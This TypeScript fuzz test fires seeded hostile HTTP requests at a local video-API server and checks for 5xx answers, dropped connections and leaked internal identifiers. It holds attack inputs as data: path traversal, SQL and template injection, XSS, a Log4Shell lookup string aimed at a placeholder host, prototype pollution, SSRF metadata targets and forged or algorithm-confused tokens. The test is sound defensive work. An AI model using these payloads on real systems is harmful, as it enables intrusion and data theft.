/**
 * The API under fire: at least 1,000 randomized hostile requests over every route of the stack's
 * route table and the local-only routes, plus unknown paths and methods, sent over real HTTP
 * (raw `node:http`) to the real local server. Odd bytes and path tricks (`..%2f`, `%00`, `%ZZ`,
 * 10 kB segments, double slashes), huge, empty and wrongly typed values, repeated and unknown
 * query parameters, bad, missing, expired, unsigned and algorithm-confused tokens, valid tokens
 * with hostile bodies, hostile Stripe signatures and hostile events signed with the right secret.
 *
 * Every answer must be below 500, arrive (no dropped connection), be JSON with an `error.code`
 * when it is 4xx, and mention no internal identifier: an ARN, a file path, a stack frame, an AWS
 * error name. The requests come from a seeded PRNG, generated before any is sent, so a failure
 * names its seed and its request number: `FUZZ_SEED=<seed> FUZZ_ONLY=<n> npx vitest run
 * test/api/fuzz.test.ts` sends that one request again. FUZZ_REQUESTS sets how many (default 1,200).
 * The suite uses one fixed seed, so CI judges every change on the same 1,200 requests;
 * `FUZZ_SEED=random` explores new ones (the seed it drew is printed).
 */
import './quiet-logs.js';
import { randomUUID } from 'node:crypto';
import Stripe from 'stripe';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { API_ROUTES } from '../../lambdas/api/routes.js';
import { startDevServer, type DevServer } from '../../lib/local/dev-server.js';
import { withEveryRouteThrottle } from '../support/route-throttle.js';
import { ApiClient, checkoutCompletedEvent, ledgerSum } from './api-client.js';
import { rawRequest, type RawAnswer, type RawRequest } from './raw-http.js';
import { startStripeStub, STRIPE_STUB_KEY, type StripeStub } from './stripe-stub.js';
import { tokenMinter, type TokenMinter } from './tokens.js';

/** The suite's seed: every run sends the same requests. */
const DEFAULT_SEED = 20261204;
const SEED = process.env.FUZZ_SEED === 'random' ? Math.floor(Math.random() * 2 ** 31) : Number(process.env.FUZZ_SEED ?? DEFAULT_SEED);
const REQUESTS = Number(process.env.FUZZ_REQUESTS ?? 2000);
const ONLY = process.env.FUZZ_ONLY === undefined ? undefined : Number(process.env.FUZZ_ONLY);
/** Requests in flight at once: enough to overlap the emulators' latency, few enough for two cores. */
const CONCURRENCY = 6;
const WEBHOOK_SECRET = 'whsec_test_fuzz';
const ADMIN = 'fuzz-operator';

/**
 * What no answer may contain: ARNs, file paths, stack frames, AWS error names. The generator
 * never puts these in a request, so any found came from the server.
 */
const MARKERS = [
  'arn:',
  '/work/',
  'node_modules',
  '.ts:',
  '.js:',
  'file://',
  '    at ',
  'AccessDenied',
  'ConditionalCheckFailed',
  'ValidationException',
  'ResourceNotFound',
  'TransactionCanceled',
  'TransactionConflict',
  'ProvisionedThroughputExceeded',
  'ThrottlingException',
  'ItemCollectionSizeLimitExceeded',
  'SerializationException',
  'UnrecognizedClientException',
  'InvalidSignatureException',
  'ExpiredToken',
  'NoSuchKey',
  'NoSuchBucket',
  'QueueDoesNotExist',
  'ExecutionAlreadyExists',
  'StateMachineDoesNotExist',
  'RequestEntityTooLargeException',
  'Sandbox.Timedout',
  'TypeError',
  'RangeError',
  'SyntaxError',
  'ReferenceError',
  'ZodError',
  'ECONNREFUSED',
];

/** mulberry32: small, fast, and the same sequence for the same seed everywhere. */
function prng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T>(items: readonly T[]): T => items[int(items.length)]!;
  const chance = (p: number) => next() < p;
  return { next, int, pick, chance };
}
type Rng = ReturnType<typeof prng>;

/** Strings that have broken parsers, stores and templates somewhere. */
const HOSTILE_STRINGS = [
  '',
  ' ',
  'a',
  'x'.repeat(300),
  'x'.repeat(10_000),
  '\u0000',
  'a\u0000b',
  '\ud800',
  'ok\udfffok',
  '\ud83d\ude00',
  'caf\u00e9',
  '\u202eevil',
  '\ufeffbom',
  '\u001b[2J',
  '\r\n\r\nX-Injected: 1',
  '%00',
  '%ZZ',
  '%',
  '../../etc/passwd',
  '..%2f..%2fpackage.json',
  '<script>alert(1)</script>',
  "'; DROP TABLE jobs; --",
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '0x1F',
  ' 5 ',
  'true',
  '[]',
  '{}',
  'ＡＢＣ',
  'Why octopuses have three hearts',
];

/** Values of every JSON type, hostile or plain. */
function hostileValue(rng: Rng, depth = 0): unknown {
  switch (rng.int(depth > 2 ? 8 : 11)) {
    case 0:
      return rng.pick(HOSTILE_STRINGS);
    case 1:
      return rng.pick([0, -1, 1, 1.5, 10, 90, 91, 100, 101, 2 ** 53, -(2 ** 63), 1e308, Number.MAX_SAFE_INTEGER, 0.1]);
    case 2:
      return rng.pick([true, false, null]);
    case 3:
      return rng.pick(HOSTILE_STRINGS).repeat(1 + rng.int(5));
    case 4:
      return 'p'.repeat(rng.pick([2, 3, 499, 500, 501, 5000]));
    case 5:
      return rng.pick(['9:16', '1:1', '16:9', 'en-us', 'bold', 'karaoke', 'minimal', 'en-gb', 'xx-invalid']);
    case 6:
      return randomUUIDish(rng);
    case 7:
      return String(rng.int(1000));
    case 8:
      return Array.from({ length: rng.int(4) }, () => hostileValue(rng, depth + 1));
    case 9:
      return Object.fromEntries(Array.from({ length: rng.int(4) }, () => [rng.pick(HOSTILE_STRINGS), hostileValue(rng, depth + 1)]));
    default:
      return { S: rng.pick(HOSTILE_STRINGS) };
  }
}

/** A UUID-shaped string from the PRNG (so the request replays exactly). */
function randomUUIDish(rng: Rng): string {
  const hex = () => rng.int(16).toString(16);
  const part = (n: number) => Array.from({ length: n }, hex).join('');
  return `${part(8)}-${part(4)}-4${part(3)}-${rng.pick(['8', '9', 'a', 'b'])}${part(3)}-${part(12)}`;
}

const FIELDS: Record<string, string[]> = {
  '/api/videos': ['prompt', 'seconds', 'aspect', 'voice', 'captionStyle', 'webhookUrl'],
  '/api/webhooks': ['url', 'events'],
  '/api/billing/checkout': ['credits'],
  '/api/keys': ['name', 'scopes'],
  '/api/dev/session': ['userId', 'admin'],
  '/api/dev/purchase': ['credits'],
  '/api/batches': ['items'],
  '/api/videos/{id}/scenes/{n}': ['narration', 'imagePrompt', 'durationHint'],
  '/api/videos/{id}/storyboard': ['title', 'hook', 'scenes'],
  '/api/videos/{id}/scenes/{n}/upload': ['contentType', 'size'],
  '/api/videos/{id}/scenes/{n}/image': ['uploadId'],
};

function validBody(path: string, rng: Rng): Record<string, unknown> {
  switch (path) {
    case '/api/videos':
      return { prompt: rng.pick(['How bees dance', 'Why the sea is salty', 'Why 🐝 dance\nand sing']), seconds: rng.pick([10, 30, 61, 90]), aspect: rng.pick(['9:16', '1:1', '16:9']) };
    case '/api/billing/checkout':
    case '/api/dev/purchase':
      return { credits: 1 + rng.int(5) };
    case '/api/keys':
      return { name: rng.pick(['CI', 'Zapier 🐝', 'k'.repeat(64)]), ...(rng.chance(0.5) ? { scopes: rng.pick([['read'], ['write'], ['read', 'write']]) } : {}) };
    case '/api/dev/session':
      return { userId: `fuzz-${rng.int(5)}`, admin: rng.chance(0.2) };
    case '/api/batches':
      return { items: Array.from({ length: 1 + rng.int(3) }, () => validBody('/api/videos', rng)) };
    case '/api/webhooks':
      return { url: rng.pick(['http://127.0.0.1:9/hook', 'https://169.254.169.254/', 'http://[::1]:9/']), ...(rng.chance(0.5) ? { events: ['video.failed'] } : {}) };
    case '/api/videos/{id}/scenes/{n}':
      return { narration: rng.pick(['New words.', 'Ünïcode 🐝 words']), ...(rng.chance(0.5) ? { durationHint: rng.pick([1, 5, 20, null]) } : {}) };
    case '/api/videos/{id}/storyboard':
      return { title: 'A title', scenes: [{ from: 2 }, { from: 1 }, { narration: 'New.', imagePrompt: 'a new scene' }] };
    case '/api/videos/{id}/scenes/{n}/upload':
      return { contentType: rng.pick(['image/png', 'image/jpeg', 'image/webp']), size: 1 + rng.int(10 * 1024 * 1024) };
    case '/api/videos/{id}/scenes/{n}/image':
      return { uploadId: '6f1c2d3e-4b5a-4c6d-8e7f-0a1b2c3d4e5f' };
    default:
      return {};
  }
}

/** The body of a JSON route: valid, valid with one field made hostile, or anything at all. */
function jsonBody(path: string, rng: Rng): string | Buffer {
  const roll = rng.next();
  if (roll < 0.2) return JSON.stringify(validBody(path, rng));
  if (roll < 0.6) {
    const body: Record<string, unknown> = validBody(path, rng);
    const fields = FIELDS[path] ?? ['x'];
    if (rng.chance(0.8)) body[rng.pick(fields)] = hostileValue(rng);
    else body[rng.pick(HOSTILE_STRINGS) || 'extra'] = hostileValue(rng);
    if (rng.chance(0.1)) delete body[rng.pick(fields)];
    return JSON.stringify(body);
  }
  return oddBody(rng);
}

const MCP_TOOL_NAMES = ['create_video', 'get_video', 'list_videos', 'get_credits', 'list_voices'];

/** A JSON-RPC message for POST /api/mcp: a well-formed call with hostile arguments, a malformed message, a batch, or anything. */
function mcpBody(rng: Rng): string | Buffer {
  const roll = rng.next();
  const id = rng.pick<unknown>([1, 'a', null, -1, 1.5, {}, [], 'x'.repeat(5000)]);
  if (roll < 0.45) {
    const name = rng.chance(0.9) ? rng.pick(MCP_TOOL_NAMES) : rng.pick(HOSTILE_STRINGS);
    const args: Record<string, unknown> =
      name === 'create_video' ? validBody('/api/videos', rng) : name === 'get_video' ? { id: idSegment(rng) } : name.startsWith('list') || name === 'get_credits' ? { limit: 1 + rng.int(60) } : {};
    if (rng.chance(0.7)) args[rng.pick([...FIELDS['/api/videos']!, 'id', 'limit', 'cursor', 'idempotencyKey', rng.pick(HOSTILE_STRINGS) || 'extra'])] = hostileValue(rng);
    const params = rng.chance(0.9) ? { name, arguments: rng.chance(0.9) ? args : hostileValue(rng) } : hostileValue(rng);
    return JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/call', params });
  }
  if (roll < 0.65) {
    const method = rng.pick(['initialize', 'tools/list', 'ping', 'notifications/initialized', 'resources/list', 'prompts/get', rng.pick(HOSTILE_STRINGS)]);
    return JSON.stringify({ jsonrpc: rng.pick(['2.0', '2.0', '1.0', 2]), id, method, ...(rng.chance(0.5) ? { params: hostileValue(rng) } : {}) });
  }
  if (roll < 0.75) return JSON.stringify(Array.from({ length: 1 + rng.int(30) }, (_, n) => ({ jsonrpc: '2.0', id: n, method: rng.pick(['tools/list', 'ping', 'tools/call']) })));
  return oddBody(rng);
}

/** Bodies that are not what any route expects. */
function oddBody(rng: Rng): string | Buffer {
  switch (rng.int(14)) {
    case 0:
      return '';
    case 1:
      return rng.pick(['[]', '"text"', '42', 'null', 'true', '{}', '[{}]', '-0', '1e999']);
    case 2:
      return '{"prompt": ';
    case 3:
      return 'not json at all';
    case 4:
      return `${'['.repeat(2000 + rng.int(20_000))}`;
    case 5:
      return `{"prompt":${'{"a":'.repeat(100 + rng.int(3000))}1${'}'.repeat(100)}`;
    case 6:
      return JSON.stringify({ prompt: 'x'.repeat(rng.pick([60_000, 70_000, 200_000])) });
    case 7:
      return rng.chance(0.3) ? JSON.stringify({ prompt: 'y'.repeat(2 * 1024 * 1024) }) : JSON.stringify({ prompt: 'y'.repeat(1000) });
    case 8:
      return Buffer.from([0x7b, 0x22, 0x70, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0x22, 0x7d]);
    case 9:
      return `{"prompt":"dup","prompt":"${rng.pick(HOSTILE_STRINGS).replace(/["\\]/g, '')}","seconds":10}`;
    case 10:
      return '{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}},"prompt":"How bees dance"}';
    case 11:
      return `{"prompt":"\\u0000\\ud800","credits":"\\udfff"}`;
    case 12:
      return JSON.stringify(Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`k${i}`, i])));
    default:
      return JSON.stringify(hostileValue(rng));
  }
}

/** A Stripe event: real-looking, truncated, or hostile, for the webhook. */
function stripeEvent(rng: Rng, users: string[]): string {
  const credits = rng.chance(0.5) ? 1 + rng.int(3) : (hostileValue(rng) as number);
  const paid = checkoutCompletedEvent({ userId: rng.pick(users), credits: 1 });
  const event = JSON.parse(paid) as { type: string; data: { object: Record<string, unknown> } };
  switch (rng.int(10)) {
    case 0:
      return paid;
    case 1:
      event.data.object.metadata = { userId: rng.pick(users), credits: String(credits) };
      break;
    case 2:
      event.data.object.metadata = hostileValue(rng);
      break;
    case 3:
      event.data = hostileValue(rng) as typeof event.data;
      break;
    case 4:
      event.type = rng.pick(['charge.refunded', 'charge.dispute.created', 'checkout.session.async_payment_succeeded', 'unknown.event', '']);
      break;
    case 5:
      event.data.object[rng.pick(['id', 'payment_status', 'client_reference_id', 'amount_total', 'currency', 'mode'])] = hostileValue(rng);
      break;
    case 6:
      return JSON.stringify(hostileValue(rng));
    case 7:
      return rng.pick(['', 'null', '[]', '{"id":1}', 'not json']);
    case 8:
      delete (event as Record<string, unknown>).data;
      break;
    default:
      event.data.object = { ...event.data.object, metadata: { userId: rng.pick(HOSTILE_STRINGS), credits: '1' }, client_reference_id: null };
  }
  return JSON.stringify(event);
}

/** Signatures of every kind for a Stripe event. */
function stripeSignature(rng: Rng, payload: string | Buffer): string | undefined {
  const now = Math.floor(Date.now() / 1000);
  switch (rng.int(8)) {
    case 0:
      return undefined;
    case 1:
      return rng.pick(HOSTILE_STRINGS);
    case 2:
      return `t=${now},v1=${'0'.repeat(64)}`;
    case 3:
      return `t=${rng.pick(['abc', '-1', '99999999999999999999', ''])},v1=`;
    case 4:
      return Stripe.webhooks.generateTestHeaderString({ payload: String(payload), secret: 'whsec_not_the_secret' });
    case 5:
      return Stripe.webhooks.generateTestHeaderString({ payload: String(payload), secret: WEBHOOK_SECRET, timestamp: now - 3600 });
    default:
      return Stripe.webhooks.generateTestHeaderString({ payload: String(payload), secret: WEBHOOK_SECRET });
  }
}

/** Path-parameter values: real ids, ids of nobody, and every trick a path can play. */
function idSegment(rng: Rng): string {
  const roll = rng.next();
  if (roll < 0.35) return `{own:${rng.int(3)}}`;
  if (roll < 0.45) return randomUUIDish(rng);
  return rng.pick([
    'x'.repeat(10_000),
    'a'.repeat(1025),
    '%00',
    '%ZZ',
    '%',
    '..',
    '.',
    '..%2f..%2fpackage.json',
    '%2e%2e%2f%2e%2e%2f',
    '%252e%252e',
    '%2F',
    encodeURIComponent('ＡＢＣ'),
    encodeURIComponent("1' OR '1'='1"),
    encodeURIComponent('\u0000'),
    '%ED%A0%80',
    '%C3%28',
    '{id}',
    '__proto__',
    'null',
    '-1',
    '1e309',
    `${randomUUIDish(rng).toUpperCase()}`,
    `${randomUUIDish(rng)}%00`,
    `${randomUUIDish(rng)};x=1`,
  ]);
}

/** A cursor: garbage, or a base64url key of any shape (the right user included). */
function cursorValue(rng: Rng, users: string[]): string {
  const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const userId = rng.pick(users);
  switch (rng.int(8)) {
    case 0:
      return rng.pick(HOSTILE_STRINGS);
    case 1:
      return b64({ userId });
    case 2:
      return b64({ userId, jobId: hostileValue(rng), createdAt: hostileValue(rng) });
    case 3:
      return b64({ userId, entryId: hostileValue(rng) });
    case 4:
      return b64({ userId, jobId: randomUUIDish(rng), createdAt: new Date().toISOString() });
    case 5:
      return b64({ userId, entryId: `${new Date().toISOString()}#grant#x` });
    case 6:
      return b64(hostileValue(rng));
    default:
      return 'A'.repeat(rng.pick([1, 2001, 3000]));
  }
}

function queryString(rng: Rng, path: string, users: string[]): string {
  const pairs: [string, string][] = [];
  const n = rng.int(4);
  for (let i = 0; i < n; i++) {
    const name =
      path === '/api/metrics'
        ? rng.pick(['metric', 'from', 'to', 'period', 'step', 'metric', 'x'])
        : rng.pick(['limit', 'cursor', 'limit', 'cursor', 'x', '__proto__', 'constructor', '', 'limit[]']);
    let value: string;
    if (name === 'cursor') value = cursorValue(rng, users);
    else if (name === 'metric') value = rng.pick(['jobs_created', 'jobs_failed', 'success_rate', 'step_duration_p95', 'nope', '']);
    else if (name === 'from' || name === 'to') value = rng.pick(['2020-01-01T00:00:00Z', '0000-01-01T00:00:00Z', '9999-12-31T23:59:59Z', new Date().toISOString(), 'yesterday', '']);
    else if (name === 'period') value = rng.pick(['60', '59', '3600', '1e300', '-1', 'Infinity', '0.5', '']);
    else if (name === 'step') value = rng.pick(['script', 'render', 'nope', '']);
    else value = String(rng.pick([...HOSTILE_STRINGS, '1', '20', '50', '51', '0']));
    pairs.push([name, value]);
  }
  if (!pairs.length) return '';
  // Mostly encoded as a browser would; sometimes with the reserved characters (&, =, %, +) left raw.
  const encode = (s: string) => (rng.chance(0.9) ? percentEncode(s, /[A-Za-z0-9_.~-]/) : percentEncode(s, /[\x21-\x7e]/).replace(/#/g, '%23'));
  return `?${pairs.map(([k, v]) => `${encode(k)}=${encode(v)}`).join('&')}`;
}

/** Percent-encodes the UTF-8 bytes of `s` (a lone surrogate becomes U+FFFD's) except those `keep` matches. */
function percentEncode(s: string, keep: RegExp): string {
  return [...Buffer.from(s, 'utf8')].map((byte) => (keep.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`)).join('');
}

/** Header values as Node will send them: characters it refuses become `?`. */
function headerSafe(headers: Record<string, string>): Record<string, string> {
  return Object.fromEntries(Object.entries(headers).map(([name, value]) => [name, value.replace(/[^\t\x20-\x7e\x80-\xff]/g, '?')]));
}

interface Planned {
  n: number;
  /** The route it was made for (`METHOD /path` of the table, or `unknown`). */
  target: string;
  request: RawRequest;
  /** Authorization as a symbol resolved at send time (tokens are made after the server starts). */
  auth: string;
}

const ROUTES = [
  ...API_ROUTES.map((r) => ({ method: r.method, path: r.path })),
  { method: 'POST', path: '/api/dev/session' },
  { method: 'POST', path: '/api/dev/purchase' },
];
const UNKNOWN_PATHS = ['/api', '/api/', '/api/nothing', '/api/videos/{id}/nothing', '/API/videos', '/api//videos', '/api/videos/', '/', '/index.html', '/assets/x.js', '/%ZZ', '/favicon.ico'];
const AUTH_KINDS = ['user', 'user', 'user', 'user', 'user', 'admin', 'admin', 'none', 'garbage', 'empty', 'basic', 'expired', 'unsigned', 'hmac', 'no-sid', 'org-admin', 'wrong-azp', 'huge', 'sub-huge', 'cookie', 'bearer-only', 'api-key', 'read-key', 'forged-key', 'revoked-key'];

/** The whole run, before anything is sent: the same seed gives the same requests. */
function plan(seed: number, count: number, users: string[]): Planned[] {
  const rng = prng(seed);
  const planned: Planned[] = [];
  for (let n = 0; n < count; n++) {
    const unknown = rng.chance(0.08);
    const route = unknown ? { method: rng.pick(['GET', 'POST', 'DELETE']), path: rng.pick(UNKNOWN_PATHS) } : rng.pick(ROUTES);
    const method = rng.chance(0.88) ? route.method : rng.pick(['GET', 'POST', 'DELETE', 'PUT', 'PATCH', 'OPTIONS', 'HEAD']);
    let path = route.path
      .replace('{id}', () => idSegment(rng))
      .replace('{deliveryId}', () => idSegment(rng))
      .replace('{n}', () => rng.pick(['1', '3', '10', '0', '11', '-1', '1.5', 'x', '%00', '9'.repeat(40)]));
    if (rng.chance(0.05)) path = rng.pick([path.replace('/api/', '/api//'), `${path}/`, `${path}/.`, `${path}%2F`, path.replace('/api', '/api/./')]);
    const queryRoute = ['/api/videos', '/api/credits', '/api/metrics'].includes(route.path) && method === 'GET';
    if (queryRoute ? rng.chance(0.8) : rng.chance(0.1)) path += queryString(rng, route.path, users);

    const headers: Record<string, string> = {};
    const isJsonRoute = route.path in FIELDS;
    const isWebhook = route.path === '/api/billing/webhook';
    let body: RawRequest['body'];
    if (isWebhook && method === 'POST') {
      body = stripeEvent(rng, users);
      const signature = stripeSignature(rng, body);
      if (signature !== undefined) headers['stripe-signature'] = signature;
      if (rng.chance(0.05)) body = oddBody(rng);
    } else if (route.path === '/api/mcp' && method === 'POST') {
      body = mcpBody(rng);
      if (rng.chance(0.8)) headers.accept = rng.chance(0.9) ? 'application/json, text/event-stream' : rng.pick(['application/json', 'text/event-stream', '*/*', '']);
    } else if (isJsonRoute && (method === 'POST' || method === 'PATCH')) body = jsonBody(route.path, rng);
    else if (rng.chance(0.1)) body = oddBody(rng);
    if (body !== undefined && rng.chance(0.85)) {
      headers['content-type'] = rng.chance(0.8)
        ? 'application/json'
        : rng.pick(['text/plain', 'application/octet-stream', 'multipart/form-data; boundary=x', 'application/json; charset=utf-16', 'application/x-www-form-urlencoded', 'image/png', '']);
    }
    if (method === 'POST' && rng.chance(0.3)) {
      headers['idempotency-key'] = rng.chance(0.5) ? randomUUIDish(rng) : rng.pick(HOSTILE_STRINGS.filter((s) => s.length < 8000));
    }
    if (rng.chance(0.05)) headers['x-forwarded-for'] = rng.pick(['127.0.0.1', '::1', '10.0.0.1, 1.2.3.4', 'garbage']);
    if (rng.chance(0.03)) headers.origin = rng.pick(['https://evil.example', 'null', '']);
    const request = JSON.stringify({ path, headers, body: typeof body === 'string' ? body : '' });
    const marker = MARKERS.find((m) => request.includes(m));
    if (marker) throw new Error(`request #${n} itself contains "${marker}": the generator must not make what the answers are checked for`);
    planned.push({
      n,
      target: unknown ? 'unknown' : `${route.method} ${route.path}`,
      auth: rng.pick(AUTH_KINDS),
      request: { method, path, headers, ...(body !== undefined ? { body } : {}), ...(body !== undefined && rng.chance(0.05) ? { chunked: true } : {}) },
    });
  }
  return planned;
}

/** The request in a line: enough to see what it was and to find it again by its number. */
function describeRequest(p: Planned): string {
  const body = p.request.body;
  const preview = body === undefined ? '' : typeof body === 'string' ? body.slice(0, 160) : Buffer.isBuffer(body) ? body.toString('hex').slice(0, 80) : `<${body.size} bytes>`;
  return `#${p.n} (seed ${SEED}) ${p.request.method} ${p.request.path.slice(0, 200)}${p.request.path.length > 200 ? '…' : ''} auth=${p.auth} headers=${JSON.stringify(p.request.headers).slice(0, 300)} body=${JSON.stringify(preview)}`;
}

let server: DevServer;
let stripe: StripeStub;
let tokens: TokenMinter;
const serverErrors: unknown[] = [];

beforeAll(async () => {
  console.log(`fuzz: seed ${SEED}, ${REQUESTS} requests (replay one with FUZZ_SEED=${SEED} FUZZ_ONLY=<n>)`);
  stripe = await startStripeStub();
  const settings = {
    ...process.env,
    STRIPE_WEBHOOK_SECRET: WEBHOOK_SECRET,
    STRIPE_SECRET_KEY: STRIPE_STUB_KEY,
    STRIPE_API_BASE: stripe.url,
    ADMIN_USER_IDS: ADMIN,
  };
  server = await startDevServer({
    port: 0,
    inMemory: true,
    quiet: true,
    maxRunningPipelines: 0,
    startingCredits: 50,
    settings,
    onError: (what, error) => serverErrors.push({ what, error }),
    // The subject is what the functions answer; API Gateway's own 429 is test/local/edge.test.ts's.
    alterTemplate: withEveryRouteThrottle({ rate: 100_000, burst: 100_000 }),
  });
  tokens = await tokenMinter(server.dataDir, server.url);
});

afterAll(async () => {
  await server?.stop();
  await stripe?.stop();
});

describe('the API under 1,000+ hostile requests', () => {
  it('never answers 5xx, never drops a connection, always answers errors as JSON, never leaks an internal identifier', async () => {
    // Prepare: two users with videos in every state, and an operator
    const userId = `fuzz-user-${randomUUID()}`;
    const otherId = `fuzz-other-${randomUUID()}`;
    const user = await ApiClient.signIn(server.url, userId);
    const other = await ApiClient.signIn(server.url, otherId);
    const own: string[] = [];
    for (const client of [user, user, other]) {
      const created = await client.createVideo({ prompt: 'How bees dance', seconds: 10, aspect: '1:1' });
      expect(created.status).toBe(202);
      own.push(created.body.id);
    }
    await server.runtime.jobs.transition(own[1]!, { status: 'QUEUED' }, { set: { status: 'FAILED', refunded: true, finishedAt: new Date().toISOString() } });
    const users = [userId, otherId, 'nobody', ''];
    const now = Math.floor(Date.now() / 1000);
    const session = (sub: string) => tokens.sessionClaims(sub);
    const { sid: _sid, ...sidless } = session(userId);
    // API keys of the user: one with both scopes, a read-only one, and one revoked.
    const makeKey = async (body: Record<string, unknown>) => {
      const created = await user.call('POST', '/api/keys', body);
      expect(created.status).toBe(201);
      return created.body as { id: string; key: string };
    };
    const [apiKey, readKey, revokedKey] = [await makeKey({ name: 'fuzz' }), await makeKey({ name: 'fuzz read', scopes: ['read'] }), await makeKey({ name: 'fuzz revoked' })];
    expect((await user.call('DELETE', `/api/keys/${revokedKey.id}`)).status).toBe(200);
    const authorization: Record<string, Record<string, string>> = {
      user: { authorization: `Bearer ${user.token}` },
      admin: { authorization: `Bearer ${tokens.sign(session(ADMIN))}` },
      none: {},
      garbage: { authorization: 'Bearer not.a.token' },
      empty: { authorization: '' },
      basic: { authorization: 'Basic dXNlcjpwYXNz' },
      expired: { authorization: `Bearer ${tokens.sign({ ...session(userId), exp: now - 60, iat: now - 3600, nbf: now - 3600 })}` },
      unsigned: { authorization: `Bearer ${tokens.unsigned({ ...session(ADMIN), metadata: { role: 'admin' } })}` },
      hmac: { authorization: `Bearer ${tokens.hmacWithPublicKey({ ...session(ADMIN), metadata: { role: 'admin' } })}` },
      'no-sid': { authorization: `Bearer ${tokens.sign(sidless)}` },
      'org-admin': { authorization: `Bearer ${tokens.sign({ ...session(otherId), org_role: 'org:admin', o: { rol: 'admin' } })}` },
      'wrong-azp': { authorization: `Bearer ${tokens.sign({ ...session(userId), azp: 'https://evil.example' })}` },
      huge: { authorization: `Bearer ${'A'.repeat(9000)}` },
      'sub-huge': { authorization: `Bearer ${tokens.sign({ ...session('u'.repeat(5000)) })}` },
      cookie: { cookie: `theme=dark; __session=${user.token}; __session=garbage` },
      'bearer-only': { authorization: 'Bearer ' },
      'api-key': { authorization: `Bearer ${apiKey.key}` },
      'read-key': { authorization: `Bearer ${readKey.key}` },
      'forged-key': { authorization: `Bearer sk_shorts_${'A'.repeat(43)}` },
      'revoked-key': { authorization: `Bearer ${revokedKey.key}` },
    };
    const planned = plan(SEED, REQUESTS, users).filter((p) => ONLY === undefined || p.n === ONLY);
    const resolve = (p: Planned): RawRequest => ({
      ...p.request,
      path: p.request.path.replace(/\{own:(\d)\}/g, (_, i: string) => own[Number(i)]!),
      headers: headerSafe({ ...p.request.headers, ...authorization[p.auth] }),
      timeoutMs: 60_000,
    });

    // Act: a few at a time, every answer kept
    const answers: { p: Planned; answer: RawAnswer }[] = [];
    let next = 0;
    await Promise.all(
      Array.from({ length: CONCURRENCY }, async () => {
        while (next < planned.length) {
          const p = planned[next++]!;
          answers.push({ p, answer: await rawRequest(server.url, resolve(p)) });
        }
      }),
    );

    // Assess
    const failures: string[] = [];
    const byRoute = new Map<string, Map<number, number>>();
    for (const { p, answer } of answers.sort((a, b) => a.p.n - b.p.n)) {
      const statuses = byRoute.get(p.target) ?? new Map<number, number>();
      statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
      byRoute.set(p.target, statuses);
      const fail = (why: string) => failures.push(`${why}\n  ${describeRequest(p)}\n  answer: ${answer.status} ${answer.text.slice(0, 300)}`);
      if (answer.dropped) {
        fail(`dropped connection (${answer.error})`);
        continue;
      }
      if (answer.status >= 500) fail(`answered ${answer.status}`);
      if (answer.status >= 400 && p.request.method !== 'HEAD' && typeof answer.json?.error?.code !== 'string') fail('an error answer without a JSON error.code');
      if (answer.status >= 400 && answer.text.length > 4096) fail(`an error answer of ${answer.text.length} characters (an echo of the input?)`);
      // Operators are shown resource names (docs/ops.md): their successful answers may name ARNs.
      const operatorRead = p.auth === 'admin' && answer.status < 300 && ['/api/health', '/api/alerts', '/api/queue/status', '/api/metrics'].some((r) => p.target.endsWith(r));
      const visible = `${JSON.stringify(answer.headers)}\n${answer.text}`;
      for (const marker of MARKERS) {
        if (visible.includes(marker) && !operatorRead) fail(`the answer mentions "${marker.trim()}"`);
      }
    }
    const summary = [...byRoute].map(([route, statuses]) => `${route}: ${[...statuses].map(([s, c]) => `${s}×${c}`).join(' ')}`).join('\n');
    console.log(`fuzz: seed ${SEED}\n${summary}`);
    expect(failures, `${failures.length} bad answers (seed ${SEED}):\n${failures.slice(0, 15).join('\n')}`).toEqual([]);
    expect(serverErrors, 'errors the local server had to answer 500 for').toEqual([]);

    if (ONLY === undefined) {
      expect(answers.length).toBe(REQUESTS);
      if (process.env.FUZZ_REQUESTS === undefined) expect(answers.length).toBeGreaterThanOrEqual(1000);
      // Every route was fired at, and none was only ever refused at the door.
      for (const route of ROUTES) {
        const statuses = byRoute.get(`${route.method} ${route.path}`);
        const total = [...(statuses?.values() ?? [])].reduce((a, b) => a + b, 0);
        expect(total, `${route.method} ${route.path}`).toBeGreaterThanOrEqual(20);
      }
    }
    // Still serving, and hostile input moved no money: each ledger still sums to its balance.
    expect((await rawRequest(server.url, { method: 'GET', path: '/api/openapi.json' })).status).toBe(200);
    for (const client of [user, other]) {
      const { balance, entries } = await client.credits();
      expect(ledgerSum(entries)).toBe(balance);
    }
  });
});
